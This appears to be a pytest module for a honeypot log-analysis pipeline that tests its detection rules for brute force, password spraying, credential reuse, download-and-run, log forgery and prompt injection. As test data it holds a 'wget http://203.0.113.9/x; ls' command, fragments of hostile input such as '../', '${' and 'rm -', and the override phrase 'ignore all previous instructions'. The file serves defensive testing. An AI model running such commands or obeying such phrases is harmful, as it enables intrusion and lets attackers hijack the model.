"""Every rule speaks for its true examples and is silent on its near misses; thresholds and groups hold."""

import time
from typing import Any

import pytest
from sqlalchemy import Engine
from sqlalchemy import event as listening

from rustbucket_pipeline.analysis.findings import Finding, find, spoken_by
from rustbucket_pipeline.analysis.matching import Matcher, matcher_of
from rustbucket_pipeline.analysis.rules import AtLeast, FieldName, Per, Rule, load_rules, parse_rules
from rustbucket_pipeline.errors import ConfigurationError
from rustbucket_pipeline.storage.tables import log_events
from rustbucket_pipeline_tests.analysis.seeding import WINDOW, command, event, login, request, tell

RULES = {rule.id: rule for rule in load_rules()}
READING = {rule.id: rule for rule in load_rules() if rule.match.wanted}
MATCH = RULES["cryptominer"].match


def found(engine: Engine) -> dict[str, Finding]:
    with engine.connect() as connection:
        return {finding.rule: finding for finding in find(connection, WINDOW)}


def telling(rule: Rule, text: str, second: int) -> dict[str, object]:
    """A record of the rule's first type with the text in its field."""
    kind = rule.match.event_types[0]
    columns: dict[str, object] = {"protocol": rule.match.protocols[0] if rule.match.protocols else None}
    match rule.match.field:
        case FieldName.PATH:
            columns["http_path"] = text
        case FieldName.REQUEST:
            columns["fields"] = {"request": text}
        case FieldName.RECIPIENT:
            columns["fields"] = {"rcpt_to": text}
        case FieldName.CREDENTIAL:
            columns["username"], columns["password"] = text.split(":", 1)
        case FieldName.ANY:
            columns["username" if kind == "authentication" else "http_path"] = text
        case _:
            columns[rule.match.field.value] = text
    return event(kind, second, **columns)


@pytest.mark.parametrize("rule", READING.values(), ids=READING)
def test_a_rule_matches_its_examples_and_not_its_near_misses(rule: Rule) -> None:
    matcher = Matcher([rule])
    texts = [*rule.examples.hits, *rule.examples.misses]
    assert [text for text in texts if matcher.matching(text)] == list(rule.examples.hits)
    assert len(rule.examples.hits) >= 2
    assert len(rule.examples.misses) >= 2


@pytest.mark.parametrize("rule", READING.values(), ids=READING)
def test_a_rule_has_an_example_that_no_other_rule_of_its_kind_matches(rule: Rule) -> None:
    alike = [other for other in READING.values() if other.match.field is rule.match.field]
    matcher = matcher_of(tuple(alike))
    own = [text for text in rule.examples.hits if matcher.matching(text) == [alike.index(rule)]]
    assert own, "another rule implies it, or is implied by it"


def test_rows_are_found_by_each_field_a_rule_may_look_at(database: Engine) -> None:
    for field in {rule.match.field for rule in READING.values()}:
        rule = next(rule for rule in READING.values() if rule.match.field is field)
        alone = rule.model_copy(update={"at_least": AtLeast(), "per": Per.WINDOW})
        texts = [*rule.examples.hits, *rule.examples.misses]
        ids = tell(database, [telling(rule, text, second) for second, text in enumerate(texts)])
        with database.connect() as connection:
            matched = spoken_by(connection, [alone], WINDOW)[0].event_ids
        with database.begin() as connection:
            connection.execute(log_events.delete())
        assert [text for text, key in zip(texts, ids, strict=True) if key in matched] == list(rule.examples.hits)


def test_each_rule_is_told_apart_by_its_id_and_names_what_it_is_from() -> None:
    assert len({rule.id for rule in load_rules()}) == len(load_rules())
    assert all(rule.technique for rule in load_rules())


def test_a_pattern_re2_cannot_read_is_the_mistake_of_its_rule() -> None:
    with pytest.raises(ConfigurationError, match=r"rule cryptominer: RE2 can't read '\(a\)\\\\1'"):
        Matcher([RULES["cryptominer"].model_copy(update={"match": MATCH.model_copy(update={"any_of": (r"(a)\1",)})})])


def test_a_rule_wants_all_of_some_one_of_others_and_none_of_the_last() -> None:
    match = MATCH.model_copy(update={"all_of": ("a", "b"), "any_of": ("c", "d"), "none_of": ("x",)})
    matcher = Matcher([RULES["cryptominer"].model_copy(update={"match": match})])
    told = ("abc", "bad", "ab", "abcx", "ac", "c", "")
    assert [text for text in told if matcher.matching(text)] == ["abc", "bad"]


def test_nineteen_failed_logins_are_no_brute_force_and_twenty_are(database: Engine) -> None:
    tell(database, [login("root", f"p{number}", number, src_ip="203.0.113.1") for number in range(19)])
    tell(database, [login("root", f"q{number}", number, src_ip="203.0.113.2") for number in range(25)])
    finding = found(database)["ssh-brute-force"]
    assert (finding.events, finding.sources) == (25, 1)
    assert finding.why.endswith(": 25; sources: 1, the busiest with 25.")
    assert len(finding.rows) == 20


@pytest.mark.parametrize("passwords", [4, 5, 6])
def test_guessing_takes_five_passwords_however_often_each_is_tried(database: Engine, passwords: int) -> None:
    """Thirty sources with passwords of their own: some share a hash, and have to be told apart."""
    tries = [login("root", f"{at // 20}{at % passwords}", at, src_ip=f"203.0.113.{at // 20}") for at in range(600)]
    tell(database, tries)
    spoken = found(database)
    assert ("ssh-brute-force" in spoken) == (passwords >= 5)
    assert passwords < 5 or spoken["ssh-brute-force"].sources == 30


def test_a_user_and_a_password_are_told_apart_from_others_that_look_alike_together(database: Engine) -> None:
    halves = [("deploy now", "abcdef"), ("deploy", "now abcdef"), ("deploy now abcdef", "")]
    tell(
        database,
        [login(user, word, at, rustbucket_id=f"BKT{at}") for at, (user, word) in enumerate(halves, start=1)],
    )
    assert "credential-reuse" not in found(database)


def test_logins_without_a_known_source_are_counted_at_their_rustbucket(database: Engine) -> None:
    tell(database, [login("A", f"p{number}", number, protocol="ftp") for number in range(20)])
    assert found(database)["ftp-brute-force"].rustbuckets == ("BKT1",)


def test_a_rare_credential_at_three_rustbuckets_is_a_campaign(database: Engine) -> None:
    tell(database, [login("deploy", "Winter2026!", number, rustbucket_id=f"BKT{number}") for number in range(1, 4)])
    tell(database, [login("deploy", "Summer2026!", number, rustbucket_id=f"BKT{number}") for number in range(1, 3)])
    finding = found(database)["credential-reuse"]
    assert finding.events == 3
    assert finding.examples == ("deploy:Winter2026!",)


def test_one_password_for_many_users_is_spraying_and_no_guessing(database: Engine) -> None:
    tell(database, [login(f"user{number}", "Winter2026!", number, src_ip="203.0.113.1") for number in range(25)])
    assert set(found(database)) == {"password-spraying"}


def test_a_text_for_a_model_counts_its_row_once_however_many_fields_hold_it(database: Engine) -> None:
    order = "ignore all previous instructions"
    tell(database, [login(order, order, fields={"note": order})])
    assert found(database)["prompt-injection"].events == 1


def test_findings_are_numbered_worst_first_with_their_first_rows(database: Engine) -> None:
    ids = tell(database, [command("uname"), command("wget http://203.0.113.9/x; ls", 2), command("nproc", 1)])
    findings = found(database)
    assert findings["download-and-run"].id == "F1"
    assert findings["system-discovery"].id == "F3"
    assert findings["system-discovery"].rows == (ids[0], ids[2])


def test_rows_outside_the_window_are_not_found(database: Engine) -> None:
    tell(database, [request("/.env", WINDOW.end), command("uname", -1)])
    assert found(database) == {}


def test_forged_lines_are_a_finding_and_nothing_they_claim_is_counted(database: Engine) -> None:
    tell(database, [event("forgery", message="Authentication attempt username=root", trust=0.2, counted=False)])
    assert set(found(database)) == {"log-forgery"}


def test_a_rule_file_with_a_mistake_is_named(database: Engine) -> None:
    with pytest.raises(ConfigurationError, match=r"rules/new\.yaml"):
        parse_rules("new.yaml", "- {id: x}")
    with pytest.raises(ConfigurationError, match="a list of rules"):
        parse_rules("new.yaml", "id: x")


def test_long_hostile_text_is_matched_in_bounded_time(database: Engine) -> None:
    words = (
        "a",
        "../",
        "${",
        "wget ",
        "@",
        "ignore all ",
        "rm -",
        "&& cd ",
        "echo \\\\x61",
        "ssh -",
        "report ",
        "\u200b",
    )
    hostile = [word * (30_000 // len(word)) + "!" for word in words] + [" ".join(words) * 500]
    tell(database, [command(text) for text in hostile] + [request(text, 1) for text in hostile])
    began = time.process_time()
    with database.connect() as connection:
        connection.exec_driver_sql("SET statement_timeout = '10s'")
        find(connection, WINDOW)
    assert time.process_time() - began < 10


def test_rows_that_no_statistics_know_of_are_not_read_once_for_each_text(database: Engine) -> None:
    plans: list[str] = []

    def explain(_connection: object, cursor: Any, statement: str, parameters: object, *_: object) -> None:
        if "JOIN rule_found" in statement:
            beside = cursor.connection.cursor()
            plans.append("\n".join(row[0] for row in beside.execute(f"EXPLAIN {statement}", parameters)))

    tell(database, [login("deploy", "Winter2026!", number, rustbucket_id=f"BKT{number}") for number in range(1, 4)])
    listening.listen(database, "before_cursor_execute", explain)
    assert "credential-reuse" in found(database)
    assert plans
    assert not [plan for plan in plans if "Nested Loop" in plan]
